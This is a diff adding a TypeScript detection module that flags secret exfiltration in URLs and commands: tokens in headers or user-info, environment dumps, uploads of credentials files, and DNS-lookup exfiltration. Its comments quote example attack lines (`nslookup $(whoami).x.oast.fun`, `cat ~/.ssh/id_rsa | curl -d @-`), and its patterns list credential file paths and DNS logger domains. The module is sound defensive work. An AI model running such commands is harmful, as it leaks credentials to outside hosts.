@@ -1,0 +1,205 @@
+/**
+ * adversarial_url readings of what a request sends out besides its URL's path and query (docs/content.md): a vendor's
+ * secret variable in the URL's user-info, or in a header, a body or a call's argument on the request's own line, and
+ * the whole environment or a credentials file uploaded, to a request catcher, a tunnel or a raw public address; and a
+ * command's output or a secret's variable written as a label of a host that is looked up or fetched (DNS
+ * exfiltration: `nslookup $(whoami).x.oast.fun`). The variable is read in the syntaxes of shells, CI expressions,
+ * PowerShell, cmd, Groovy, Node and Python. A secret sent to its vendor's host or to a company's named host is not read.
+ */
+import { CATCHER, isPublicAddress, namesSecret, sentElsewhere } from './carried.js';
+import type { Hit } from './codes.js';
+import type { Text } from './find.js';
+
+/**
+ * A variable's reference, its name in one group: a CI expression's stored secret (1), PowerShell's `$env:X`, Groovy's
+ * `${env.X}` (2), a shell's `$X` or `${X}` (3), cmd's `%X%` (4), `env.X` (5), Node's `process.env.X` (6), Python's
+ * `os.environ["X"]`, `os.environ.get("X")`, `os.getenv("X")` (7).
+ */
+const REFERENCE =
+  /\$\{\{\s{0,3}secrets\.([A-Za-z0-9_]{1,80})|\$\{?[Ee][Nn][Vv][:.]([A-Za-z_][A-Za-z0-9_]{1,60})|\$\{?([A-Z][A-Z0-9_]{1,60})|%([A-Z][A-Z0-9_]{1,60})%|\benv\.([A-Z][A-Z0-9_]{1,60})|process\.env(?:\.|\[\s{0,2}\\?["'`])([A-Z][A-Z0-9_]{1,60})|\bos\.(?:environ(?:\.get\(|\[)|getenv\()\s{0,2}\\?["']([A-Z][A-Z0-9_]{1,60})/g;
+
+/**
+ * Whether `s` refers to a secret's variable: one named for a vendor none of whose labels `labels` has (a host's), or,
+ * with no labels, any whose name says a secret.
+ */
+function refersToSecret(s: string, labels: readonly string[] | null): boolean {
+  REFERENCE.lastIndex = 0;
+  for (let m = REFERENCE.exec(s); m; m = REFERENCE.exec(s)) {
+    const stored = m[1] !== undefined;
+    const name = (m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5] ?? m[6] ?? m[7]!).toUpperCase();
+    // In a host (no labels), a stored secret's name must say a secret too: CI keeps hosts among its secrets (`secrets.DEPLOY_HOST`).
+    if (labels === null ? namesSecret(name) : sentElsewhere(name, labels, stored)) return true;
+  }
+  return false;
+}
+
+/** A command or a call that sends a request (a URL's own scheme is not one). */
+const REQUESTER =
+  /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|axios|webclient|npm|pip)\b|\bhttp\s{1,3}(?:get|post|put|patch|delete)\b|\b(?:https?\.(?:get|request)|fetch|requests\.(?:get|post|put|patch|request)|urlopen)\s{0,2}\(|\bgit\s{1,3}(?:push|clone|fetch|pull|remote|ls-remote)\b/i;
+/** The whole environment as a request's body: `$(env)`, `env |`, `printenv >`, `process.env`, `os.environ` (not `env | grep APP_`). */
+const ENV_DUMP =
+  /\$\(\s{0,2}(?:env|printenv|set)\s{0,2}(?:\)|\|(?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b))|(?:^|[\s;&(])(?:env|printenv|set)\s{0,2}[|>](?!\s{0,3}(?:grep|awk|cut|head|sed|sort)\b)|stringify\(\s{0,2}process\.env\s{0,2}\)|\.\.\.process\.env\b|\bdict\(\s{0,2}os\.environ\s{0,2}\)|\b(?:json|data)\s{0,2}=\s{0,2}(?:dict\()?os\.environ\b|\bbody:\s{0,2}process\.env\b/;
+/** Files that hold credentials (a public key, `id_rsa.pub`, does not). */
+const SECRET_PATH =
+  /\.aws\/credentials|\.ssh\/id_\w{1,20}(?!\.pub)\b|~\/\.(?:ssh|aws|gnupg)\b|\.git-credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|\/etc\/(?:passwd|shadow)\b|gh\/hosts\.yml|(?:^|[\s@="'/])\.env\b/;
+/**
+ * What a command uploads (group 1): a file after `-d @`, `-F f=@`, `-T`, `--upload-file`, `--post-file=`, read by
+ * `cat` into a pipe or a substitution, or archived by `tar` into a pipe (group 2, the archive's arguments).
+ */
+const UPLOADED =
+  /(?:\s(?:-d|-F|--data(?:-binary|-raw|-urlencode|-ascii)?|--form|-T|--upload-file)\s{1,3}\\?["']?(?:[\w-]{1,40}=)?@?|--(?:post|body)-file=|\bcat\s{1,3})([^\s"'|)\\]{1,200})|\btar\s([^|\n]{1,200})\|/g;
+
+/** Whether a command uploads a credentials file (`--data-binary @~/.aws/credentials`, `cat ~/.ssh/id_rsa | curl -d @-`). */
+function uploadsSecretFile(line: string): boolean {
+  UPLOADED.lastIndex = 0;
+  for (let m = UPLOADED.exec(line); m; m = UPLOADED.exec(line)) if (SECRET_PATH.test(m[1] ?? m[2]!)) return true;
+  return false;
+}
+/** A shell's line continuation, raw or in a JSON string: the command goes on after it. */
+const CONTINUATION = /\\(?:\r?\n|\\\\n)/g;
+
+/** The command a URL stands in: its line, joined to the lines a trailing backslash continues, at most 400 code units either side. */
+function commandAround(text: string, start: number, end: number): string {
+  let before = text.slice(Math.max(0, start - 400), start);
+  if (before.includes('\\')) before = before.replace(CONTINUATION, '  ');
+  const cutBefore = Math.max(before.lastIndexOf('\n'), before.lastIndexOf('\\n'));
+  if (cutBefore >= 0) before = before.slice(cutBefore + 1);
+  let after = text.slice(end, end + 400);
+  if (after.includes('\\')) after = after.replace(CONTINUATION, '  ');
+  const n = after.indexOf('\n');
+  const e = after.indexOf('\\n');
+  const cutAfter = n < 0 ? e : e < 0 ? n : Math.min(n, e);
+  if (cutAfter >= 0) after = after.slice(0, cutAfter);
+  // Another command on the same line (`gh auth login --with-token <<< "$GITHUB_TOKEN" && curl …`) sends nothing of this one's.
+  // So does the next item of a JSON list or record written on one line (`"cmd":"curl …","env":…`).
+  const sepBefore = Math.max(before.lastIndexOf('&&'), before.lastIndexOf('||'), before.lastIndexOf(';'), before.lastIndexOf('","'));
+  if (sepBefore >= 0) before = before.slice(sepBefore + 1);
+  const sepAfter = after.search(/&&|\|\||;|",\\?"/);
+  if (sepAfter >= 0) after = after.slice(0, sepAfter);
+  return before + text.slice(start, end) + after;
+}
+
+/**
+ * A request to a catcher or a tunnel whose own command or call sends a vendor's secret variable (`-H "Authorization:
+ * Bearer $GITHUB_TOKEN"`, `{ t: process.env.NPM_TOKEN }`), and a request to a catcher, a tunnel or a raw public address
+ * that sends the whole environment or a credentials file. A raw public address is where self-hosted services (a
+ * registry, a GitLab, a model server speaking OpenAI's API) answer under the vendor's variable names: only a secret in
+ * the URL's own query or path (`?d=" + os.environ.get("OPENAI_API_KEY")`) is read there, as carried.ts reads `$X`.
+ * `after` is the text after the URL.
+ */
+export function sendsWithRequest(text: string, start: number, end: number, host: string, rest: string): boolean {
+  const catcher = CATCHER.test(host);
+  if (!catcher && !isPublicAddress(host)) return false;
+  const line = commandAround(text, start, end);
+  if (!REQUESTER.test(line)) return false;
+  const labels = host.split('.');
+  if (catcher ? refersToSecret(line, labels) : refersToSecret(rest + urlTail(text, end, rest), labels)) return true;
+  return ENV_DUMP.test(line) || uploadsSecretFile(line);
+}
+
+/** A value joined to a URL that ends in a parameter's `=` (`"http://…/?d=" + os.environ.get("X")`, `+ process.env.X`). */
+const JOINED = /^\\?["'`]\s{0,3}\+\s{0,3}([^\s)]{1,100})/;
+
+/** What the code after a URL adds to it: a brace's expression where URL_RE stopped at `${`, a value joined after `=`. */
+function urlTail(text: string, end: number, rest: string): string {
+  if (rest.endsWith('$')) return text.slice(end, end + 100).replace(/\}.{0,100}$/s, '}');
+  if (!rest.endsWith('=')) return '';
+  return JOINED.exec(text.slice(end, end + 120))?.[1] ?? '';
+}
+
+/** The most code units a host word is read over. */
+const WORD_MAX = 300;
+
+/**
+ * The word at `from` as a shell reads it: `$(…)`, `${…}` and a backtick's substitution are one piece whatever they hold
+ * (blanks, pipes, a CI expression's braces); outside them it ends at a blank, a quote, `/ ? #` or `<>` when `url`.
+ */
+function wordAt(text: string, from: number, url: boolean): string {
+  let depth = 0;
+  let tick = false;
+  let at = from;
+  for (; at < text.length && at - from < WORD_MAX; at++) {
+    const c = text.charCodeAt(at);
+    if (tick) {
+      if (c === 0x60) tick = false;
+      continue;
+    }
+    if (c === 0x24 && (text.charCodeAt(at + 1) === 0x28 || text.charCodeAt(at + 1) === 0x7b)) {
+      depth++;
+      at++;
+      continue;
+    }
+    if (depth > 0) {
+      if (c === 0x28 || c === 0x7b) depth++;
+      else if (c === 0x29 || c === 0x7d) depth--;
+      else if (c === 0x0a) break;
+      continue;
+    }
+    if (c === 0x60) {
+      tick = true;
+      continue;
+    }
+    if (c <= 0x20 || c === 0x22 || c === 0x27 || c === 0x3c || c === 0x3e || c === 0x29 || c === 0x5c) break;
+    if (url && (c === 0x2f || c === 0x3f || c === 0x23)) break;
+  }
+  return text.slice(from, at);
+}
+
+/** Where a host's dynamic pieces end: after the last `$(…)`, `${…}`, backtick substitution, `$env:X`, `$X` or `%X%`. */
+const DYNAMIC = /\$\{\{[^{}]{0,100}\}\}|\$\([^()]{0,200}\)|\$\{[^{}]{0,200}\}|`[^`]{0,200}`|\$[Ee][Nn][Vv]:\w{1,60}|\$\w{1,60}|%\w{1,60}%/g;
+/** The out-of-band testers' DNS loggers (a tunnel's name is looked up honestly: `dig ${SUBDOMAIN}.ngrok-free.app`). */
+const DNS_LOGGER =
+  /(?:^|\.)(?:oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator\.net|interact\.sh|interactsh\.com|requestrepo\.com|dnslog\.cn|ceye\.io|canarytokens\.com)$/;
+/** A domain of two labels or more. */
+const DOMAIN = /^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,10}$/;
+
+/**
+ * A host built from a command's output or a variable (`$(whoami).x.oast.fun`, `${GITHUB_TOKEN}.d.attacker.tld`) whose
+ * fixed part is a DNS logger's domain, or whose variable or substitution holds a secret: the lookup carries it out.
+ */
+function dynamicHostSends(host: string): boolean {
+  let last = -1;
+  let pieces = '';
+  DYNAMIC.lastIndex = 0;
+  for (let m = DYNAMIC.exec(host); m; m = DYNAMIC.exec(host)) {
+    last = m.index + m[0].length;
+    pieces += ` ${m[0]}`;
+  }
+  if (last < 0) return false;
+  const domain = host
+    .slice(last)
+    .replace(/^[.-]{1,3}/, '')
+    .replace(/[:"'].{0,300}$/, '')
+    .toLowerCase();
+  if (!DOMAIN.test(domain)) return false;
+  return DNS_LOGGER.test(domain) || refersToSecret(pieces, null) || SECRET_PATH.test(pieces);
+}
+
+/**
+ * A URL's authority that holds a variable or a substitution (`https://x:${AWS_SECRET_ACCESS_KEY}@45.61.136.12/`,
+ * `https://${{ secrets.NPM_TOKEN }}@…`, `http://$(whoami).x.oast.fun/`), read from the text at `from` (after `://`)
+ * since URL_RE stops at a brace or a blank inside it: a vendor's secret in the user-info of a catcher's, a tunnel's or
+ * a raw public address, or a host built to carry data out.
+ */
+export function sendsInAuthority(text: string, from: number): boolean {
+  const authority = wordAt(text, from, true);
+  const at = authority.lastIndexOf('@');
+  const host = (at >= 0 ? authority.slice(at + 1) : authority).replace(/:\d{1,5}$/, '').toLowerCase();
+  // Only a catcher's or a tunnel's: a self-hosted git server or registry on a raw address takes the vendor's token so.
+  if (at > 0 && CATCHER.test(host) && refersToSecret(authority.slice(0, at), host.split('.'))) return true;
+  return dynamicHostSends(host);
+}
+
+/** A lookup command, its options, and a host that starts with a variable or a substitution. */
+const LOOKUP = /\b(?:nslookup|dig|host|ping|resolve-dnsname)\s{1,3}(?:(?:[-+@][\w.=:-]{0,40}|\d{1,3})\s{1,3}){0,4}\\?["']?(?=[$`%])/i;
+/** Where LOOKUP's matches are (find.ts LITERALS): each starts at its command. */
+const LOOKUP_ANCHORS = ['nslookup', 'dig ', 'host ', 'ping ', 'resolve-dnsname'];
+
+/** DNS exfiltration by a lookup of a host built from a command's output or a secret's variable (dynamicHostSends). */
+export function detectDynamicLookups(t: Text, out: Hit[]): void {
+  // Tried only where the literal index found a command's name (most texts name none).
+  for (const m of t.findNear(LOOKUP, LOOKUP_ANCHORS, 0, 'ndhpr')) {
+    const from = m.index + m[0].length;
+    if (dynamicHostSends(wordAt(t.text, from, false))) out.push({ code: 'url_exfiltration', start: m.index, end: from });
+  }
+}
